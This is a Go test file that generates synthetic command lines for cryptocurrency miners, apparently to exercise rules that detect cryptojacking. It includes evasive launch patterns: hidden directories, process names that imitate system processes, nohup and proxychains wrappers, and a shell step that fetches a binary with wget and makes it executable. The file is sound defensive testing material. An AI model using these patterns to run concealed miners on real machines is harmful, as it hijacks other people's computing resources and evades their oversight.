package rules_test

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

// A grammar makes command lines at random, the same ones for the same seed.
type grammar struct{ *rand.Rand }

func newGrammar(seed uint64) grammar { return grammar{rand.New(rand.NewPCG(seed, 11))} }

func (g grammar) pick(all ...string) string { return all[g.IntN(len(all))] }
func (g grammar) word(all string) string    { return g.pick(strings.Fields(all)...) }
func (g grammar) one(in int) bool           { return g.IntN(in) == 0 }

// letters returns a prefix and n letters of a kind.
func (g grammar) letters(prefix, kind string, n int) string {
	b := []byte(prefix)
	for range n {
		b = append(b, kind[g.IntN(len(kind))])
	}
	return string(b)
}

// Kinds of letters.
const (
	base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
	bech32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
	digits = "0123456789"
	hex    = digits + "abcdef"
	small  = "abcdefghijklmnopqrstuvwxyz"
)

// wallet returns an invented wallet of valid form.
func (g grammar) wallet() string {
	switch g.IntN(9) {
	case 0, 1, 2: // Monero
		return g.letters(g.pick("4", "8"), base58, 94)
	case 3: // with a payment id, and relatives of Monero
		return g.letters(g.pick("4", "ZEPH", "SaLv", "Wo", "ccx7"), base58, 94+g.IntN(12))
	case 4: // Bitcoin and its relatives
		return g.letters(g.pick("1", "3", "R", "L", "D", "B", "S", "Y", "t1"), base58, 33)
	case 5:
		return g.letters(g.pick("bc1q", "sugar1q", "aleo1", "dero1qy", "ltc1q"), bech32, 38+g.IntN(20))
	case 6:
		return g.letters(g.pick("xel:", "kaspa:q", "spectre:", "nexa:"), bech32, 50+g.IntN(12))
	case 7: // Ethereum
		return g.letters("0x", hex, 40)
	}
	return g.letters("", strings.ToUpper(small), 60) // Qubic
}

func (g grammar) ip() string {
	return fmt.Sprintf("%s.%d", g.pick("192.0.2", "198.51.100", "203.0.113", "127.0.0", "10.9.8"), g.IntN(256))
}

// host returns a host that is in no list of pools.
func (g grammar) host() string {
	if g.one(2) {
		return g.ip()
	}
	return g.letters("", small, 3+g.IntN(9)) + g.pick(".", "-eu.", ".x.") + g.pick("example.org", "example.net", "example", "sytes.test")
}

// pool returns a host of a known pool.
func (g grammar) pool() string {
	return g.pick("", "pool.", "xmr-eu1.", "gulf.", "de.monero.") + g.word(`nanopool.org supportxmr.com moneroocean.stream hashvault.pro
		herominers.com 2miners.com c3pool.org zpool.ca luckpool.net vipor.net kryptex.network unmineable.com flockpool.com`)
}

func (g grammar) port() string { return fmt.Sprint(80 + g.IntN(20000)) }

func (g grammar) endpoint() string {
	if g.one(4) {
		return g.pool() + ":" + g.port()
	}
	return g.host() + ":" + g.port()
}

// algorithm returns the name of an algorithm that is for mining only.
func (g grammar) algorithm() string {
	a := g.word(`rx/0 rx/wow rx/arq rx randomx randomarq randomepic cn/r cn/half cn-heavy/xhv cn-lite/1 cryptonight_gpu ghostrider gr
		panthera verushash verus yespower yespowersugar yespowerR16 yescryptr32 power2b minotaurx cpupower argon2d_16000
		argon2/chukwa astrobwt astrobwt/v2 xelishashv3 sha3x sha256dt kawpow progpow_zano firopow evrprogpow etchash ethash
		autolykos2 karlsenhashv2 heavyhash fishhash verthash lyra2v2_webchain neoscrypt equihash125_4 x16rv2 x21s rinhash`)
	if g.one(5) {
		a = strings.ToUpper(a)
	}
	return a
}

// option returns an option with its value: apart, with =, or glued to a single letter.
func (g grammar) option(name, value string) []string {
	switch {
	case strings.HasPrefix(name, "--") && g.one(2):
		return []string{name + "=" + value}
	case !strings.HasPrefix(name, "--") && len(name) == 2 && g.one(8):
		return []string{name + value}
	}
	return []string{name, value}
}

// A sayer says one thing in the words of one miner.
type sayer map[string][]string

// sayers returns the option names of miners, from their usage texts.
func sayers() []sayer {
	xmrig := sayer{"pool": {"-o", "--url", "-ko", "--ur"}, "user": {"-u", "--user", "-ku"}, "algorithm": {"-a", "--algo", "-ka", "--al"},
		"rest": {"-k", "--tls", "-B", "--keepalive", "--no-color", "-t 4", "-p x", "--pass=w1", "--cpu-priority 5", "--http-port=8080", "--print-time 60"}}
	return []sayer{
		xmrig, xmrig,
		{"pool": {"-o", "--url"}, "user": {"-u", "--user", "-O", "--userpass"}, "algorithm": {"-a", "--algo"}, // cpuminer
			"rest": {"-t 2", "-q", "--param-n=2048", "--param-key=X", "-r 5", "-b 127.0.0.1:4048", "-p c=RTM"}},
		{"pool": {"--pool", "-o"}, "user": {"--wallet", "-u"}, "algorithm": {"--algorithm", "-a"}, // SRBMiner
			"rest": {"--disable-gpu", "--cpu-threads 8", "--worker r1", "--password x", "--tls true", "--miner-priority 2"}},
		{"pool": {"--pool"}, "user": {"--user"}, "algorithm": {"--algo", "-a"}, "rest": {"--pass x", "--tls on", "--apiport 4000"}}, // lolMiner
		{"pool": {"--server", "-s"}, "user": {"--user", "-u"}, "algorithm": {"--algo", "-a"}, "rest": {"--ssl 1", "--devices 0"}},   // gminer
		{"pool": {"--daemon-address", "-d"}, "user": {"--wallet", "-w"}, "rest": {"--threads 8", "--worker-name x"}},                // tnn-miner
		{"pool": {"--daemon-address"}, "user": {"--miner-address"}, "rest": {"--num-threads 4", "--worker w"}},                      // xelis_miner
		{"pool": {"--pool", "--tcp_server"}, "user": {"--address"}, "rest": {"--custom_name ct-1", "--ssl"}},                        // aleo_prover
		{"pool": {"--daemon-rpc-address", "-r"}, "user": {"--wallet-address", "-w"}, "rest": {"--mining-threads=4"}},                // dero-miner
		{"pool": {"-l"}, "user": {"-u"}, "rest": {"-t 4", "-p x"}},                                                                  // nheqminer
	}
}

// user returns a wallet as pools take it.
func (g grammar) user() string {
	return g.pick("", "", "", "", "XMR:", "solo:") + g.wallet() + g.pick("", "", ".rig1", ".w/me@example.org", "/w", "+10000", ".w#ab", ":x")
}

// mining returns the arguments of a miner, in any order, with an algorithm, a wallet or both.
func (g grammar) mining() (args []string) {
	s := sayers()[g.IntN(len(sayers()))]
	pool, user := g.pick(s["pool"]...), g.pick(s["user"]...)
	endpoint := g.endpoint()
	for slices.Contains([]string{"-s", "-d", "-r", "-l"}, pool) && strings.HasPrefix(endpoint, "127.") {
		endpoint = g.endpoint() // where servers listen
	}
	parts := [][]string{g.option(pool, endpoint)}
	if s["algorithm"] == nil || g.one(2) {
		parts = append(parts, g.option(user, g.user()))
	} else {
		name := g.algorithm()
		algorithm := g.option(g.pick(s["algorithm"]...), name)
		if len(algorithm) == 1 && !strings.HasPrefix(algorithm[0], "--") {
			algorithm = []string{algorithm[0][:2], algorithm[0][2:]} // glued is another kind
		}
		who := g.pick("worker", "me@example.org", g.user())
		if slices.Contains([]string{"rx", "gr", "verus"}, strings.ToLower(name)) && slices.Contains([]string{"--server", "-s"}, pool) {
			who = g.user() // another trade's name and option
		}
		if user == "-O" {
			who += ":x"
		}
		parts = append(parts, algorithm, g.option(user, who))
	}
	for range g.IntN(4) {
		parts = append(parts, strings.Fields(g.pick(s["rest"]...)))
	}
	g.Shuffle(len(parts), func(i, j int) { parts[i], parts[j] = parts[j], parts[i] })
	return slices.Concat(parts...)
}

// program returns an inconspicuous name.
func (g grammar) program() string {
	return g.pick("/tmp/.x/", "./", "/dev/shm/", "/var/tmp/.ICE-unix/", "/home/jovyan/", "/opt/.sys/", "") +
		g.pick(g.letters("", small, 3+g.IntN(8)), "python3", "java", "sshd", "node", "[kworker/0:1]", "training1", "math")
}

// miner returns the command line of a renamed miner, perhaps behind another program.
func (g grammar) miner() []string {
	argv := append([]string{g.program()}, g.mining()...)
	for g.one(4) {
		argv = append(strings.Fields(g.pick("/usr/bin/proxychains4", "./graftcp", "/usr/bin/env HOME=/tmp", "/usr/bin/nohup", "/usr/bin/setsid",
			"/usr/bin/timeout 1h", "/usr/bin/nice -n 19", "/usr/bin/sudo -u www-data", "/lib64/ld-linux-x86-64.so.2", "/usr/bin/screen -dmS s")), argv...)
	}
	return argv
}

// scripted returns a shell that starts a miner from the text of its -c.
func (g grammar) scripted() []string {
	text := g.pick("", "", "cd /x && ", "wget -q http://203.0.113.7/w; chmod +x w; ", "while true; do ", "ulimit -n 9000\n") +
		g.pick("", "", "nohup ", "exec ", "setsid nohup ", "env A=1 ", "timeout 600 ") +
		strings.Join(g.miner(), " ") + g.pick("", " &", " > /dev/null 2>&1 &", " || sleep 5", "; done")
	return append(strings.Fields(g.pick("/bin/sh -c", "/bin/bash -c", "/usr/bin/bash -lc", "/bin/dash -c", "bash -xec")), text)
}
